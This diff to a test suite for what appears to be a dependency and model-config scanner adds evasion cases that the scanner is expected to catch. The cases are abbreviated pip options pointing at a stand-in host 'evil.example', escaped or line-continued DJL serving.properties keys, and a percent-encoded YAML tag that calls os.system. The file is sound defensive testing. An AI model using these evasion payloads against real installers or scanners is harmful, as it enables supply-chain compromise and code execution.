@@ -32,6 +32,9 @@ HASH = "--hash=sha256:" + "0" * 64
         "--extra-index-url=https://evil.example/simple",
         "--find-links ./wheels",
         "--trusted-host evil.example",
+        "--index-u http://evil.example/simple",
+        "--extra=https://evil.example/simple",
+        "--pre --index-url http://evil.example/simple",
         "-e .",
         "-r https://evil.example/more.txt",
         "git+https://github.com/acme/x@main",
@@ -77,12 +80,21 @@ def test_the_environments_of_mlflow_are_looked_at_like_requirements() -> None:
         "option.model_id = s3://bucket/model/",
         "option.s3url=s3://bucket/model/",
         "option.entryPoint: https://evil.example/x.py",
+        "option.model_\\u0069d=acme/model",
+        "option.mod\\\n  el_id=acme/model",
+        "option.model\\_id=acme/model",
     ],
 )
 def test_what_djl_serving_would_fetch_is_refused(line: str) -> None:
-    assert found("serving.properties", f"engine=Python\n# {line}\n") == []
+    assert found("serving.properties", "engine=Python\n# " + line.replace("\n", "\n# ") + "\n") == []
     assert found("serving.properties", f"engine=Python\n{line}\n") == FETCHED
     assert found("serving.properties", "option.model_id=/opt/ml/model\noption.dtype=fp16\n") == []
+
+
+@pytest.mark.parametrize("before", ["# a comment does not go on \\", "option.dtype=fp16\\\\", "! another \\"])
+def test_what_only_looks_like_the_rest_of_a_line_is_a_property_of_its_own(before: str) -> None:
+    assert found("serving.properties", f"{before}\noption.model_id=acme/model\n") == FETCHED
+    assert found("serving.properties", "option.model_id=acme/model\\") == FETCHED
 
 
 def test_code_of_other_repositories_is_refused() -> None:
@@ -131,6 +143,7 @@ def test_an_ordinary_chat_template_passes() -> None:
     [
         "a: !!python/object/apply:os.system ['id']\n",
         "a: !<tag:yaml.org,2002:python/name:os.system> ''\n",
+        "a: !!%70ython/object/apply:os.system ['id']\n",
         "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system\n",
         "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/name:os.system\n",
     ],
